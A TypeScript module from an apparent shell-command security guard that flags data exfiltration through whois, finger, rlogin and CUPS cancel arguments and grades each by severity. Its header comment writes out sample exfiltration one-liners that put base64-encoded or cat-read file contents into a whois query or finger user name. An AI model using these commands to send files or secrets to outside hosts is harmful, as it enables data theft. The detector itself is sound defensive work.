import { Severity } from "../../../gen/guard/v1/types_pb.js";
import { type Hit, hitOn, optionValue } from "../commands/rules/types.js";
import type { Invocation } from "../commands/shell/analyze.js";
import { readsSecrets } from "./transfers.js";

/**
 * Clients of old line protocols whose request is one of their arguments, sent as written: a
 * whois query, a finger user, an rlogin or CUPS user name. None of them sends a file, but
 * pointed at a host and port of someone's choosing each carries whatever is put into that
 * argument to any listener (`whois -h host -p 9 "$(base64 f)"`, `finger "$(cat f)@host"`), a
 * way out for data where curl and netcat are watched or missing.
 *
 * What is judged is the argument and the port, never the host, which text cannot judge:
 * - a secret read into the argument by a command substitution is HIGH;
 * - any other substitution, an argument no account is named (encoded data), or a port other
 *   than the protocol's own (nothing but a listener of the sender's runs there) is MEDIUM;
 * - finger to another host otherwise is LOW: rare today, and exactly the GTFOBins upload.
 * `whois example.org` (to the registries), `whois -h whois.radb.net AS15169`, `rlogin -l ops
 * host` and `cancel -h printhost -u bob` are not matched.
 */

/** Programs `carriedField` reads, for the uploads dispatch. */
export const FIELD_CLIENTS: readonly string[] = ["whois", "finger", "rlogin", "cancel"];

/** The argument a protocol client sends, and the port it sends it to when not the protocol's own. */
interface CarriedField {
  /** Index in `args` of the word sent. */
  readonly at: number;
  /** What the protocol calls the word, for the reason. */
  readonly field: string;
  readonly host: string;
  /** The protocol, for the reason. */
  readonly protocol: string;
  readonly oddPort?: string;
}

/** whois options whose value is the next word (GNU whois): not the query. */
const WHOIS_VALUE_OPTIONS: ReadonlySet<string> = new Set([
  "-h",
  "--host",
  "-p",
  "--port",
  "-i",
  "-T",
  "-s",
  "-t",
  "-q",
  "-v",
]);

/** Hosts on this machine: what is sent to them does not leave it. */
function isLocalHost(host: string): boolean {
  return host === "" || host === "localhost" || host.startsWith("127.") || host === "::1" || host === "[::1]";
}

/** `port` when given and not `standard` (or its service name). */
function oddPort(port: string | undefined, ...standard: string[]): string | undefined {
  return port !== undefined && !standard.includes(port) ? port : undefined;
}

/** The index of the value of the first of `names` given separately (`-l user`), or -1. */
function valueIndex(args: readonly string[], names: readonly string[]): number {
  const k = args.findIndex((a) => names.includes(a));
  return k !== -1 && k + 1 < args.length ? k + 1 : -1;
}

/** The index of the first argument that is neither an option nor the value of one of `valueOptions`. */
function firstOperand(args: readonly string[], valueOptions: ReadonlySet<string>): number {
  for (let k = 0; k < args.length; k++) {
    const a = args[k]!;
    if (valueOptions.has(a)) k++;
    else if (!a.startsWith("-")) return k;
  }
  return -1;
}

/** The field `inv` sends to another host, if it is such a client with such a field. */
export function carriedField(inv: Invocation): CarriedField | undefined {
  const a = inv.args;
  switch (inv.name) {
    case "whois": {
      // Without -h the query goes to the registries' own servers.
      const host = optionValue(a, ["-h", "--host"]);
      const at = firstOperand(a, WHOIS_VALUE_OPTIONS);
      if (host === undefined || isLocalHost(host) || at === -1) return undefined;
      return {
        at,
        field: "query",
        host,
        protocol: "whois",
        oddPort: oddPort(optionValue(a, ["-p", "--port"]), "43", "whois"),
      };
    }
    case "finger": {
      const at = a.findIndex((w) => !w.startsWith("-") && w.includes("@"));
      const host = at === -1 ? "" : a[at]!.slice(a[at]!.lastIndexOf("@") + 1);
      return isLocalHost(host) ? undefined : { at, field: "user name", host, protocol: "finger" };
    }
    case "rlogin": {
      const at = valueIndex(a, ["-l"]);
      const host = a.find((w, k) => !w.startsWith("-") && k !== at && a[k - 1] !== "-p" && a[k - 1] !== "-e");
      if (at === -1 || host === undefined || isLocalHost(host)) return undefined;
      return {
        at,
        field: "user name",
        host,
        protocol: "rlogin",
        oddPort: oddPort(optionValue(a, ["-p"]), "513", "login"),
      };
    }
    case "cancel": {
      // CUPS's `-h host:port`, the server the request (user name included) goes to.
      const server = optionValue(a, ["-h"]);
      const at = valueIndex(a, ["-u"]);
      if (server === undefined || at === -1) return undefined;
      const colon = server.lastIndexOf(":");
      const host = colon === -1 ? server : server.slice(0, colon);
      if (isLocalHost(host)) return undefined;
      return {
        at,
        field: "user name",
        host,
        protocol: "IPP",
        oddPort: colon === -1 ? undefined : oddPort(server.slice(colon + 1), "631", "ipp"),
      };
    }
    default:
      return undefined;
  }
}

/** A login name as systems allow them: anything else in the field (`c2VjcmV0Cg==`) is data. */
const ACCOUNT_NAME = /^[A-Za-z_][A-Za-z0-9._-]{0,31}\$?$/;

/** The verdict on a protocol client's field; see the module comment. */
export function fieldHit(inv: Invocation): Hit | undefined {
  const carried = carriedField(inv);
  if (carried === undefined) return undefined;
  const word = inv.argWords[carried.at]!;
  const value = inv.args[carried.at]!;
  const sent = inv.name === "finger" ? value.slice(0, value.lastIndexOf("@")) : value;
  const to = carried.oddPort === undefined ? carried.host : `${carried.host} port ${carried.oddPort}`;
  if (readsSecrets(word.substitutions))
    return hitOn(
      inv,
      "field-secret",
      Severity.HIGH,
      0.85,
      `${inv.name} sends secrets in its ${carried.field} to ${to}`,
    );
  // A variable's value (`-l "$USER"`) cannot be told from the text.
  const encoded = carried.field === "user name" && !word.dynamic && !ACCOUNT_NAME.test(sent);
  if (word.substitutions.length > 0 || encoded || carried.oddPort !== undefined) {
    const why = carried.oddPort !== undefined ? `, not the ${carried.protocol} port` : "";
    return hitOn(
      inv,
      "field-send",
      Severity.MEDIUM,
      0.65,
      `${inv.name} sends data in its ${carried.field} to ${to}${why}`,
    );
  }
  if (inv.name === "finger")
    return hitOn(inv, "field-send", Severity.LOW, 0.4, `finger sends ${sent} to ${carried.host}`);
  return undefined;
}
